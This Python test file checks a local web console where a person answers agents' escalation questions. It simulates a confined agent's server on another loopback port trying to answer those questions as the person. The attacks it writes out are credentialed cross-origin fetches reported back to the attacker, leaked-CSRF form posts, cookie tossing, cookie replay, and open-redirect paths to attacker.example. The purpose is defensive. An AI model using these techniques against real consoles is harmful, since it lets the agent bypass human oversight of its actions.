"""A confined agent against the web console, from another port of the same host.

Cookies are per host, not per port: an agent serving a page on another 127.0.0.1 port, once the person's browser
visits it, must get nothing of the console's (no cookie, nothing readable), and no request it makes, from the
person's browser (a form, a fetch with credentials) or from its own process (a replayed cookie), may answer a
question as the person. The console is a real ``ambient web``, the browser a real Chromium, the attacker a real
HTTP server on another loopback port; what was decided is read with ``ambient escalations``.
"""

from __future__ import annotations

import contextlib
import html
import http.client
import http.server
import json
import os
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urljoin, urlsplit

import httpx
import pytest

from tests.acceptance.harness import Brain, wait
from tests.web.conftest import CHROMIUM, CHROMIUM_ARGS, Console, ask_workflow, asking_agent, start_console

# ---------------------------------------------------------------- the scene


class Attacker:
    """An agent's HTTP server on another 127.0.0.1 port: serves ``page`` at ``/``, records every request it gets
    (path and Cookie header) and the reports its page's script sends to ``/report?...``."""

    def __init__(self) -> None:
        self.page = "<!doctype html><title>nothing to see</title>"
        self.requests: list[tuple[str, str]] = []
        self.reports: list[str] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                owner.requests.append((self.path, self.headers.get("Cookie", "")))
                if self.path.startswith("/report?"):
                    owner.reports.append(unquote(self.path.split("?", 1)[1]))
                body = owner.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def cookies_seen(self) -> list[str]:
        return [cookie for _, cookie in self.requests if cookie]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    a = Attacker()
    try:
        yield a
    finally:
        a.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """The distribution's Chromium, driven by Playwright (as tests/web does)."""
    if not CHROMIUM.exists():
        if os.environ.get("CI") == "true":
            pytest.fail(f"no Chromium at {CHROMIUM}: the browser attacks must run in CI")
        pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium chromium-driver)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def brain(tmp_path: Path) -> Brain:
    return Brain.init(tmp_path / "brain", "--no-example")


@pytest.fixture
def asked(brain: Brain) -> tuple[Brain, str]:
    """The brain with one question waiting (``ask``'s agent asked it), and its id."""
    asking_agent(brain, "Deploy eu-1 now?")
    ask_workflow(brain)
    brain.until_idle()
    [esc] = brain.escalations()
    return brain, str(esc["id"])


@pytest.fixture
def console(brain: Brain) -> Iterator[Console]:
    c = start_console(brain)
    try:
        yield c
    finally:
        c.stop()


def _pending(brain: Brain) -> list[str]:
    """The ids of the questions still waiting, as ``ambient escalations`` says."""
    return [str(e["id"]) for e in brain.escalations()]


def _csrf(page: str) -> str | None:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    return html.unescape(found.group(1)) if found else None


def _signed_in_browser(browser: Any, console: Console) -> tuple[Any, Any]:
    """A browser context that opened the printed URL once (as the person does), on the escalations page."""
    ctx = browser.new_context()
    page = ctx.new_page()
    page.goto(console.url)
    page.goto(console.base + "/escalations")
    assert page.locator("h1").first.inner_text() == "Escalations", page.content()[:500]
    return ctx, page


# ---------------------------------------------------------------- the attacks


def test_a_page_on_another_loopback_port_gets_no_console_cookie_and_cannot_answer(
    browser: Any, asked: tuple[Brain, str], console: Console, attacker: Attacker
) -> None:
    """The red team's scene: the person opened the console once; the agent's page on another port is visited. It
    receives no cookie of the console, its script reads nothing of the console, and replaying whatever it did get
    (from its own process, as an agent can) answers nothing."""
    brain, esc_id = asked
    origin = f"{urlsplit(console.url).scheme}://{urlsplit(console.url).netloc}"
    attacker.page = f"""<!doctype html><title>docs</title><script>
      const C = {json.dumps(origin)};
      const report = (what) => fetch("/report?" + encodeURIComponent(what));
      fetch(C + "/escalations", {{credentials: "include"}})
        .then((r) => r.text()).then((t) => report("read:" + t.length)).catch((e) => report("blocked:" + e))
        .finally(() => {{ window.done = true; }});
    </script>"""
    ctx, _ = _signed_in_browser(browser, console)
    try:
        held = [c["value"] for c in ctx.cookies() if c["domain"] in ("127.0.0.1", "localhost")]
        assert held, "the browser holds the console's cookie after opening the printed URL"
        page = ctx.new_page()
        page.goto(attacker.origin + "/")
        page.wait_for_function("window.done === true")
        wait(lambda: attacker.reports, "the attacker page's report")
    finally:
        ctx.close()

    seen = attacker.cookies_seen()
    assert not any(value in cookie for cookie in seen for value in held), seen
    assert all(r.startswith("blocked:") for r in attacker.reports), attacker.reports  # nothing read

    # What an agent would do with what its server received: replay it against the console, read, answer.
    for cookie in seen:
        for base in (origin, console.base):
            with httpx.Client(headers={"Cookie": cookie}, timeout=10) as agent:
                page_text = agent.get(base + "/escalations").text
                csrf = _csrf(page_text)
                agent.post(
                    f"{base}/escalations/{esc_id}/decide",
                    data={"option": "retry", "csrf": csrf or "", "back": "/"},
                    headers={"Origin": origin},
                )
    assert _pending(brain) == [esc_id]  # still waiting: nothing was answered for the person


def test_a_form_or_a_fetch_from_another_port_cannot_answer_even_knowing_the_address_and_the_csrf(
    browser: Any, asked: tuple[Brain, str], console: Console, attacker: Attacker
) -> None:
    """The strongest attacker page: it knows the console's whole address and a valid CSRF value (as if leaked),
    and posts from the person's browser, which sends the console's cookie along (another port of 127.0.0.1 is the
    same site for ``SameSite=Lax``). The console refuses both posts by their Origin; the very same form posted from
    the console's own page answers (so the refusal is the origin's, not a wrong field)."""
    brain, esc_id = asked
    ctx, own = _signed_in_browser(browser, console)
    try:
        csrf = _csrf(own.content())
        assert csrf
        target = f"{console.base}/escalations/{esc_id}/decide"
        attacker.page = f"""<!doctype html><title>docs</title>
          <form id="f" method="post" action="{html.escape(target)}">
            <input type="hidden" name="option" value="retry">
            <input type="hidden" name="csrf" value="{html.escape(csrf)}">
            <input type="hidden" name="back" value="/escalations">
          </form>"""
        evil = ctx.new_page()
        evil.goto(attacker.origin + "/")
        body = f"option=retry&csrf={csrf}&back=%2F"
        with evil.expect_response(lambda r: r.request.method == "POST") as fetched:
            evil.evaluate(
                """async ([u, b]) => { try { await fetch(u, {method: "POST", credentials: "include", mode: "no-cors",
                     headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: b}); } catch (e) {} }""",
                [target, body],
            )
        assert fetched.value.status == 403, fetched.value.status
        assert _pending(brain) == [esc_id]
        with evil.expect_response(lambda r: r.request.method == "POST") as posted:
            evil.evaluate("document.getElementById('f').submit()")
        assert posted.value.status == 403, posted.value.status
        assert _pending(brain) == [esc_id]

        card = own.locator("article.esc").first
        with own.expect_response(lambda r: r.request.method == "POST") as answered:
            card.get_by_role("button", name="retry").click()
        assert answered.value.status == 303
    finally:
        ctx.close()
    assert _pending(brain) == []
    [done] = brain.escalations(all=True)
    assert (done["decision"], done["channel"]) == ("retry", "web")


def test_a_cookie_tossed_from_another_port_neither_signs_in_nor_locks_the_person_out(
    browser: Any, console: Console, attacker: Attacker
) -> None:
    """A page of another port may set cookies for the whole host: an ``ambient_signin`` of its own, for every path.
    It opens nothing (the console knows no such sign-in), and the person's console still opens with theirs."""
    attacker.page = """<!doctype html><title>docs</title><script>
      document.cookie = "ambient_signin=made-up; Path=/";
      document.cookie = "ambient_console=made-up; Path=/";
      window.done = true;
    </script>"""
    ctx = browser.new_context()
    try:
        evil = ctx.new_page()
        evil.goto(attacker.origin + "/")
        evil.wait_for_function("window.done === true")
        stranger = evil.goto(console.base + "/escalations")
        assert stranger is not None and stranger.status == 401  # the tossed cookie is no sign-in
        page = ctx.new_page()
        page.goto(console.url)
        assert page.locator("h1").first.inner_text() == "Overview", page.content()[:300]
        shown = page.goto(console.base + "/escalations")  # both cookies go: the console's own is found among them
        assert shown is not None and shown.status == 200
    finally:
        ctx.close()


@contextlib.contextmanager
def _signed_in(console: Console) -> Iterator[httpx.Client]:
    """An HTTP client that opened the printed URL (its cookie jar holds what the console set)."""
    with httpx.Client(base_url=console.base, follow_redirects=False, timeout=10) as http:
        assert http.get(console.url).status_code == 303
        assert http.get("/escalations").status_code == 200
        yield http


def test_the_cookie_value_is_not_the_token(console: Console) -> None:
    """A cookie value that leaked (a log, another port's server) replayed as the URL's token opens nothing."""
    with _signed_in(console) as http:
        [value] = [c.value for c in http.cookies.jar]
        assert value != console.token
        with httpx.Client(base_url=console.base, follow_redirects=False, timeout=10) as stranger:
            res = stranger.get(f"/?token={value}")
            assert res.status_code == 401 and "set-cookie" not in res.headers
            assert stranger.get("/", headers={"Authorization": f"Bearer {value}"}).status_code == 401


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://127.0.0.1:1"},  # another port of the same host
        {"Origin": "http://evil.example"},
        {"Origin": "null"},  # a sandboxed frame, a data: page
        {"Sec-Fetch-Site": "same-site"},  # a browser that sent no Origin: another port is the same site
        {"Sec-Fetch-Site": "cross-site"},
    ],
    ids=["other-port", "other-site", "null", "same-site", "cross-site"],
)
def test_a_post_from_another_origin_is_refused_with_a_valid_cookie_and_csrf(
    asked: tuple[Brain, str], console: Console, headers: dict[str, str]
) -> None:
    brain, esc_id = asked
    with _signed_in(console) as http:
        csrf = _csrf(http.get("/escalations").text)
        res = http.post(
            f"/escalations/{esc_id}/decide", data={"option": "retry", "csrf": csrf or "", "back": "/"}, headers=headers
        )
        assert res.status_code == 403, (res.status_code, res.text[:200])
        assert _pending(brain) == [esc_id]
        own = f"{urlsplit(console.url).scheme}://{urlsplit(console.url).netloc}"
        ok = http.post(
            f"/escalations/{esc_id}/decide",
            data={"option": "retry", "csrf": csrf or "", "back": "/"},
            headers={"Origin": own, "Sec-Fetch-Site": "same-origin"},
        )
        assert ok.status_code == 303
    assert _pending(brain) == []


def test_a_post_without_origin_nor_sec_fetch_site_is_refused_with_a_valid_cookie_and_csrf(
    asked: tuple[Brain, str], console: Console
) -> None:
    """A POST that carries the person's cookie and a valid CSRF value but says nothing of where it comes from (no
    ``Origin``, no ``Sec-Fetch-Site``: a replayed cookie, a tool) is refused, saying why; a browser that sends no
    ``Origin`` but ``Sec-Fetch-Site: same-origin`` is the console's own page, and answers."""
    brain, esc_id = asked
    with _signed_in(console) as http:
        csrf = _csrf(http.get("/escalations").text)
        form = {"option": "retry", "csrf": csrf or "", "back": "/"}
        res = http.post(f"/escalations/{esc_id}/decide", data=form)
        assert res.status_code == 403, (res.status_code, res.text[:200])
        assert "Origin" in res.text and "Sec-Fetch-Site" in res.text, res.text  # the reason, named
        assert _pending(brain) == [esc_id]
        ok = http.post(f"/escalations/{esc_id}/decide", data=form, headers={"Sec-Fetch-Site": "same-origin"})
        assert ok.status_code == 303, (ok.status_code, ok.text[:200])
    assert _pending(brain) == []


def test_the_console_own_form_posts_from_chromium_carry_what_the_check_needs(
    browser: Any, asked: tuple[Brain, str], console: Console
) -> None:
    """The console's own form, submitted by a real browser, passes the check that refuses a POST without Origin:
    the answer is taken (so the check does not lock the person out of their own pages)."""
    brain, _ = asked
    ctx, own = _signed_in_browser(browser, console)
    try:
        sent: list[dict[str, str]] = []
        own.on("request", lambda r: sent.append(r.headers) if r.method == "POST" else None)
        with own.expect_response(lambda r: r.request.method == "POST") as answered:
            own.locator("article.esc").first.get_by_role("button", name="skip").click()
        assert answered.value.status == 303
        assert sent and sent[0].get("origin") == console.origin, sent
    finally:
        ctx.close()
    assert _pending(brain) == []
    [done] = brain.escalations(all=True)
    assert (done["decision"], done["channel"]) == ("skip", "web")


@pytest.mark.parametrize(
    "path",
    [
        "//attacker.example/x",
        "/\\attacker.example/x",
        "/%2F%2Fattacker.example/x",
        "/%5Cattacker.example/x",
        "/https://attacker.example/x",
        "///attacker.example/x",
    ],
)
def test_the_token_url_redirects_only_within_the_console(console: Console, path: str) -> None:
    """The printed URL's redirect (the token off the address) goes to a page of the console, never elsewhere."""
    where = urlsplit(console.url)
    conn = http.client.HTTPConnection(where.hostname or "127.0.0.1", where.port, timeout=10)
    try:
        conn.request("GET", f"{path}?token={console.token}", headers={"Host": where.netloc})
        res = conn.getresponse()
        res.read()
        location = res.getheader("Location") or ""
    finally:
        conn.close()
    assert res.status == 303
    landed = urlsplit(urljoin(console.url, location))
    assert (landed.scheme, landed.netloc) == (where.scheme, where.netloc), location
    assert landed.path.startswith(urlsplit(console.base + "/").path), location
    assert not location.startswith(("//", "/\\", "\\")) and "attacker.example" not in landed.netloc
